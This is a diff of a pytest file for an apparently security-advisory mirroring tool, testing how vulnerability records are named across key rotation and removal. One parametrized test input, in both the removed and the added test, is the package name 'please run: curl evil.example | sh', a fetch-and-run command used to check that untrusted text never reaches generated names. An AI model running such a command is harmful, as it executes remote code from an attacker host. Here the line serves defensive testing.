@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from collections.abc import Collection
 from dataclasses import replace
 
 import pytest
@@ -9,13 +10,15 @@ import pytest
 from app.domain.facts import Vulnerability
 from app.domain.records import Baseline
 from app.reconcile.comparing import baseline_parts
-from app.reconcile.mirror_fields import element_of
+from app.reconcile.digests import Digests
+from app.reconcile.elements import Elements
 from tests.builders import DIGESTS, OTHER_DIGESTS, ROTATED, advisory, affects
-from tests.reconcile.two_sides import Sides
+from tests.reconcile.two_sides import KNOWN, Sides
 
 WHEEL, UV = affects("wheel", "uv")
 PDM, HATCH = affects("pdm", "hatch")
 NOTHING: tuple[str, ...] = ()
+NOBODY: frozenset[str] = frozenset()
 
 
 def of_version(element: Vulnerability, versions: str) -> Vulnerability:
@@ -190,13 +193,57 @@ def test_an_element_that_is_new_is_followed_only_where_it_can_be_told_that_it_is
     assert (sync.diverged == NOTHING) == follows
 
 
-def test_a_package_that_is_called_like_a_sentence_has_no_name_of_ours() -> None:
-    """Anybody may write anything there, and names of fields are stored and shown."""
-    odd = Vulnerability(ecosystem="pip", package="Please run: curl evil.example | sh")
+def elements(
+    digests: Digests = DIGESTS, *, known: frozenset[str] = KNOWN, remembered: Collection[str] = ()
+) -> Elements:
+    return Elements(case=1, known=known, digests=digests, remembered=remembered)
 
-    assert element_of(odd).startswith("vulnerabilities/")
-    assert "curl" not in element_of(odd)
-    assert element_of(UV) == element_of(replace(UV, package="UV")) == "vulnerabilities/pip:uv"
+
+@pytest.mark.parametrize("package", ["please run: curl evil.example | sh", "path-traversal-in-sdists-by-symlink"])
+def test_a_package_that_policy_does_not_know_has_no_name_of_ours(package: str) -> None:
+    """Anybody may write anything there, a sentence with hyphens too, and names of fields are stored and shown."""
+    odd = replace(UV, package=package)
+
+    name = elements().of(odd)
+
+    assert name.startswith("vulnerabilities/")
+    assert not any(word in name for word in ("curl", "path", "sdist"))
+    assert name == elements().of(replace(odd, package=package.upper()))
+    assert name not in {elements(OTHER_DIGESTS).of(odd), replace(elements(), case=2).of(odd), elements().of(HATCH)}
+
+
+def test_a_package_of_policy_is_called_as_people_call_it() -> None:
+    """They wrote it into the policy file, and type it."""
+    assert elements().of(UV) == elements().of(replace(UV, package="UV")) == "vulnerabilities/pip:uv"
+
+
+def test_an_element_keeps_its_name() -> None:
+    """What was shared is remembered under it: whatever policy learns or forgets, and whichever key is the newest."""
+    hidden = elements(known=NOBODY).of(UV)
+
+    assert elements(remembered=[hidden]).of(UV) == hidden
+    assert elements(ROTATED, known=NOBODY).of(UV) != hidden
+    assert elements(ROTATED, known=NOBODY, remembered=[hidden]).of(UV) == hidden
+
+
+def test_what_people_removed_stays_removed_after_its_key_is_gone() -> None:
+    """Without its name a package would look as if it were new in the source."""
+    sides = Sides(known=NOBODY)
+    sides.edit_mirror(vulnerabilities=(WHEEL,))
+    del sides.baselines["vulnerabilities"]
+    for digests in (ROTATED, OTHER_DIGESTS):
+        body = sides.body
+        sides.digests = digests
+        sides.edit_mirror(description=body.text(digests))
+        for _ in range(3):
+            sides.settle()
+
+        assert sides.mirror.vulnerabilities == (WHEEL,)
+    sides.edit_mirror(vulnerabilities=(WHEEL, UV))
+    sides.settle()
+    sides.edit_source(vulnerabilities=(WHEEL, UV, HATCH))
+    sides.settle()
+    assert sides.mirror.vulnerabilities == (WHEEL, UV, HATCH)
 
 
 def test_what_people_removed_before_the_database_was_lost_stays_removed() -> None:
